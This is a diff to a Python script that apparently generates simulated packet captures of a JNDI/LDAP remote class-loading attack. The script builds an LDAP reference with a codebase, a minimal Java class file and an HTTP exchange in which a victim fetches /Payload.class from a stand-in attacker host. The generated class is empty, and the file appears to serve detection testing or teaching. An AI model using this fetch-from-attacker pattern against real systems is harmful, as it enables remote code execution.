@@ -37,12 +37,14 @@ def reference(base, codebase, name="Payload"):
     return ber(0x30, ber(2, b"\2"), ber(0x64, text(base), ber(0x30, attributes)))
 
 
-def java_class(name):
-    """The least that is a class file (JVMS 4.1): two names, no member."""
+def java_class(name, words=()):
+    """The least that is a class file (JVMS 4.1): two names, no member; and words in its constants."""
     def utf8(value):
         return b"\1" + w.sized(2, value.encode())
     pool = utf8(name) + b"\7\0\1" + utf8("java/lang/Object") + b"\7\0\3"
-    return b"\xca\xfe\xba\xbe\0\0\0\x34\0\5" + pool + struct.pack("!7H", 0x21, 2, 4, 0, 0, 0, 0)
+    for number, word in enumerate(words):
+        pool += utf8(word) + b"\x08" + (5 + 2 * number).to_bytes(2, "big")
+    return b"\xca\xfe\xba\xbe\0\0\0\x34" + struct.pack("!H", 5 + 2 * len(words)) + pool + struct.pack("!7H", 0x21, 2, 4, 0, 0, 0, 0)
 
 
 class Tale(w.Capture):
@@ -75,8 +77,8 @@ class Tale(w.Capture):
                                                 ("s", answer + done(2, 0x65))])
         self.wait(0.1)
 
-    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class"):
-        body = java_class("Payload")
+    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=()):
+        body = java_class("Payload", words)
         head = "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: %d\r\n\r\n" % len(body)
         request = "GET %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (path, agent, server, port)
         self.between(client, server).tcp(port, [("c", request.encode()), ("s", head.encode() + body)])
